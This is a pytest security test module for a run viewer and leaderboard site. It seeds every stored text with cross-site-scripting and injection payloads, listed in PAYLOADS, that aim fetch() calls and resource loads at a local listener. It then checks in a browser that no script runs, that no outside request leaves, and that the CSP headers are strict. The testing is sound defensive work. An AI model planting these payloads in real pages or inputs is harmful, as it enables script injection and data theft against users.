"""Pages in a real browser while every text on them attacks: nothing runs, and no request leaves for anywhere else.

A listener of the test's own stands where the payloads would have a browser call. Needs what `test_site_browser.py`
needs.
"""

from __future__ import annotations

import json
import socket
import threading
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from sonde.core import Act, Turn
from sonde.evaluation import results
from sonde.evaluation.leaderboard import Board
from sonde.evaluation.run_evaluation import EVALUATION, execute_run
from sonde.runs.run import config_from, prepare_run
from sonde.runs.store import Annotator, Run, RunWriter
from sonde.viewer import write_report
from sonde.viewer.leaderboard import export_leaderboard as export_board
from sonde.viewer.site.export import Extent, export_site
from sonde.viewer.site.server import POLICY

from .conftest import CODES, Tab
from .test_site_browser import Served

pytestmark = pytest.mark.thorough

PAYLOADS = (
    "<script src='{at}/1'></script><script>fetch('{at}/2');document.title='taken'</script>",
    "<img src='{at}/3' onerror=\"document.title='taken'\"><svg onload=\"fetch('{at}/4')\"><image href='{at}/5'/></svg>",
    "<style>@import url({at}/6);body{{background:url({at}/7)}}</style><link rel=stylesheet href='{at}/8'>",
    "<meta http-equiv=refresh content='0;url={at}/9'><base href='{at}/10/'><iframe src='{at}/11'></iframe>",
    '"><a href="javascript:fetch(\'{at}/12\')" autofocus onfocus="fetch(\'{at}/13\')">x</a>',
    "' style='background:url({at}/14)' onmouseover='fetch(`{at}/15`)' x='",
    "</script></style></title></textarea></template><object data='{at}/16'></object><embed src='{at}/17'>",
    "![x]({at}/18) [x](javascript:alert(1)) {{{{7*7}}}} {{% include '{at}/19' %}} ${{fetch('{at}/20')}}",
    "<form action='{at}/21'><input name=q></form><video src='{at}/22' poster='{at}/23'></video><audio src='{at}/24'>",
    "<math><mtext><mglyph><style><!--</style><img title=\"--&gt;&lt;img src={at}/25 onerror=fetch('{at}/26')&gt;\">",
    "\u2028</pre>\x1b]8;;{at}/27\x07\u202e<img srcset='{at}/28'><body background='{at}/29' onload=alert(1)>",
)


class Listener:
    """A port of this machine that notes whoever connects."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.at = f"http://127.0.0.1:{self._socket.getsockname()[1]}"
        self.heard: list[bytes] = []
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        while True:
            try:
                connection, _ = self._socket.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(1.0)
                self.heard.append(connection.recv(200))

    def close(self) -> None:
        self._socket.close()


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    found = Listener()
    yield found
    found.close()


@pytest.fixture(scope="module")
def attack(listener: Listener) -> str:
    return " ".join(PAYLOADS).format(at=listener.at)


@pytest.fixture(scope="module")
def runs(attack: str, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Two runs and a training in which every text that somebody could choose attacks."""
    folder = tmp_path_factory.mktemp("attacked")
    says = [f"{attack} <Answer>{i}{j}</Answer>" for i in range(2) for j in range(2)]
    agent = {"name": "agents:llm", "system": attack, "model": {"name": "models:fake", "script": says}}
    for label in ("a", "b"):
        config = {"env": CODES, "seats": {"agent": agent}, "n_tasks": 2, "k": 2, "label": f"{label} {attack}"}
        run = prepare_run(config_from(config))
        execute_run(run, folder / label)
        with RunWriter.open(folder / label, run.resolved_config) as writer:
            for sample, t in enumerate(list(Run.load(folder / label)), 5):
                writer.append_trajectory(_attacked(t, attack, sample))
        with Annotator.open_annotations(folder / label, "judged", producer=attack, version=attack) as notes:
            for t in Run.load(folder / label):
                notes.add_note(t.id, attack, turn=0)
                notes.add_note(t.id, {attack: [attack]})
        path = folder / label / EVALUATION
        path.write_text(
            json.dumps({**json.loads(path.read_text("utf-8")), "notes": [attack], "source": attack}), "utf-8"
        )
    trained = folder / "training"
    trained.mkdir()
    steps = [{"step": i, "loss": 1.0 / i, attack: 1.0, "said": attack} for i in (1, 2, 3)]
    (trained / "history.jsonl").write_text("\n".join(map(json.dumps, steps)), "utf-8")
    (trained / "data.json").write_text(json.dumps({"objective": attack, "model": attack, "runs": [attack]}), "utf-8")
    return folder


def _attacked(t: Any, attack: str, sample: int) -> Any:
    """The episode with the attack in every text of its record."""

    def act(a: Act) -> Act:
        completions = tuple(
            replace(c, reasoning=attack, name=attack, model=attack, weights=attack) for c in a.action.completions
        )
        action = a.action._replace(completions=completions, memory={"note": attack})
        return a._replace(action=action, told=dict.fromkeys(a.told, attack) | {"agent": attack})

    turns = tuple(Turn(turn.index, tuple(map(act, turn.acts))) for turn in t.turns)
    return replace(t, id=f"attacked-{sample}", sample=sample, turns=turns, error=attack, tags={attack: attack})


def look(tab: Tab, address: str, listener: Listener) -> None:
    """Open a page, wait until it has come to rest, and find that it is only a page."""
    asked: list[str] = []
    tab.page.on("request", lambda request: asked.append(request.url))
    tab.page.goto(address)
    tab.page.wait_for_timeout(300)  # pages that change ask on and on, so they never fall silent
    for summary in tab.page.locator("summary").all()[:5]:
        summary.click()
    tab.page.mouse.move(300, 300)
    assert tab.page.title() != "taken"
    start = address.split("/", 3)[:3]
    assert all(url.split("/", 3)[:3] == start or url.startswith("data:") for url in asked), asked
    assert tab.page.locator("iframe, object, embed, meta[http-equiv=refresh], base[href^=http]").count() == 0
    assert listener.heard == []


def test_pages_that_a_server_answers(chromium: Any, runs: Path, listener: Listener) -> None:
    served = Served([runs])
    tab = Tab(chromium)
    try:
        names = [shelf.name for shelf in served.library.runs]
        ids = [t.id for t in served.library.run(names[0]).run][:6]
        t = served.library.run(names[0]).run[0]
        pages = [
            "", "?group=agent", *(f"run/{name}" for name in names), *(f"episode/{names[0]}/{i}" for i in ids),
            f"group/{names[0]}/{t.task.id}/{t.seed}", f"compare/{names[0]}/{names[1]}", "training/training",
            f"search/{names[0]}?text=script", "search?text=onerror", "play", "nothing/here",
        ]  # fmt: skip
        for page in pages:
            look(tab, served.address + page, listener)
        tab.page.goto(f"{served.address}episode/{names[0]}/{t.id}")
        tab.page.locator(".bits summary").first.click()
        tab.page.get_by_role("button", name="tokens").first.click()
        tab.page.locator(".call").first.wait_for()
        tab.page.get_by_role("button", name="take over").first.click()
        tab.page.wait_for_url("**/play/**")
        tab.page.locator("#say").fill(" ".join(PAYLOADS).format(at=listener.at)[:3900])
        tab.page.get_by_role("button", name="say", exact=True).click()
        tab.page.wait_for_timeout(300)  # pages that change ask on and on, so they never fall silent
        assert tab.page.title() != "taken" and listener.heard == []
        tab.errors = [e for e in tab.errors if "404" not in e]  # of the page that is not there
    finally:
        tab.close()
        served.close()


def test_the_policy_allows_nothing_from_elsewhere(chromium: Any, runs: Path) -> None:
    """Own styles, the one script by its hash, requests to the same origin; nothing else, and nobody frames a page."""
    served = Served([runs])
    page = chromium.new_context().new_page()
    headers = page.goto(served.address).headers
    page.context.close()
    served.close()
    found = dict(rule.strip().split(" ", 1) for rule in headers["content-security-policy"].split(";"))
    assert found.pop("script-src").startswith("'sha256-")
    assert found == {
        "default-src": "'none'", "style-src": "'self' 'unsafe-inline'", "connect-src": "'self'",
        "form-action": "'self'", "base-uri": "'none'", "frame-ancestors": "'none'",
    }  # fmt: skip
    assert headers["referrer-policy"] == "no-referrer" and headers["x-content-type-options"] == "nosniff"
    assert POLICY.count(";") == 6


def test_pages_as_files(tab: Tab, runs: Path, listener: Listener, tmp_path: Path) -> None:
    first = export_site([runs], tmp_path / "site", Extent(episodes=4))
    for path in sorted(first.parent.rglob("*.html")):
        look(tab, path.as_uri(), listener)


def test_reports_and_leaderboards(tab: Tab, attack: str, runs: Path, listener: Listener, tmp_path: Path) -> None:
    write_report([runs / "a", runs / "b"], tmp_path / "report.html", training=[runs / "training"])
    look(tab, (tmp_path / "report.html").as_uri(), listener)
    env = {"name": "word_guess", "preset": "mtp"}
    run = prepare_run(
        config_from({"env": env, "seats": {"agent": {"name": "agents:random"}}, "n_tasks": 2, "k": 1, "label": attack})
    )
    made = results.make_result("mtp", attack, [(run, execute_run(run, tmp_path / "run"), 1.0)], attack)
    board = Board([replace(made, machine=attack, training=attack)], [(replace(made, agent="old"), [attack])])
    look(tab, export_board(board, tmp_path / "board").as_uri(), listener)
